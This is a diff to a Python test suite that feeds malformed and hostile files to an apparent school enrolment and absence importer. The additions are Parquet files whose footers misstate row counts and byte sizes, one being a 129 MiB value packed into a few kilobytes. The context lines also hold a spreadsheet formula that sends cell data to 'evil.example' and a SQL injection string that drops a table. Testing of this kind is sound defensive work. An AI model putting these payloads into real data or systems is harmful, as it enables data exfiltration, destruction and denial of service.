@@ -19,6 +19,8 @@ import pyarrow as pa
 import pyarrow.csv as pacsv
 import pyarrow.parquet as pq
 
+from parquet_lies import lie_about_rows, lie_about_sizes
+
 ENROL = "enrolments.csv"
 ABSENT = "absences.csv"
 ENROL_PQ = "enrolments.parquet"
@@ -203,6 +205,20 @@ def _long_dictionary(t: pa.Table) -> pa.Table:
     return _replace(t, "reason", pa.array(["x" * 1_000_000] * t.num_rows))
 
 
+def _rows_lie(b: Base) -> list[tuple[str, bytes]]:
+    """The valid absence file whose footer says it has one row."""
+    return [(ENROL_PQ, parquet(b.table("enrol"))), (ABSENT_PQ, lie_about_rows(parquet(b.table("absent")), 1))]
+
+
+def _sizes_lie(b: Base) -> list[tuple[str, bytes]]:
+    """A 129 MiB reason in a few kB of zstd, the footer claiming 1,000 bytes."""
+    t = b.table("absent").slice(0, 1)
+    t = _replace(t, "reason", pa.array([b"x" * (129 << 20)], pa.binary()).cast(pa.string()))
+    buf = io.BytesIO()
+    pq.write_table(t, buf, compression="zstd")
+    return [(ENROL_PQ, parquet(b.table("enrol"))), (ABSENT_PQ, lie_about_sizes(buf.getvalue(), 1000))]
+
+
 LONG = "A" * 100_000
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
 SQLTEXT = "1';DROP TABLE enrolment;--"
@@ -338,6 +354,9 @@ VARIANTS: list[Variant] = [
             ENROL_PQ, 0, "file", "Parquet"),
     Variant("CSV text named .parquet", lambda b: [(ENROL_PQ, b.enrol_csv()), (ABSENT_PQ, parquet(b.table("absent")))],
             ENROL_PQ, 0, "file", "Parquet"),
+    Variant("a Parquet footer that says 1 row of many", _rows_lie, ABSENT_PQ, 0, "pupil_number", "declares 1 rows"),
+    Variant("a Parquet footer claiming 1 kB for a 129 MiB value", _sizes_lie, ABSENT_PQ, 0, "reason",
+            "AANWEZIG_MAX_DECODED_BYTES"),
     Variant("40 Parquet columns", _pq("absent", lambda t: pa.table(
         {**{c: t.column(c) for c in t.column_names}, **{f"x{i}": t.column(0) for i in range(40)}})),
             ABSENT_PQ, 0, "file", "columns"),
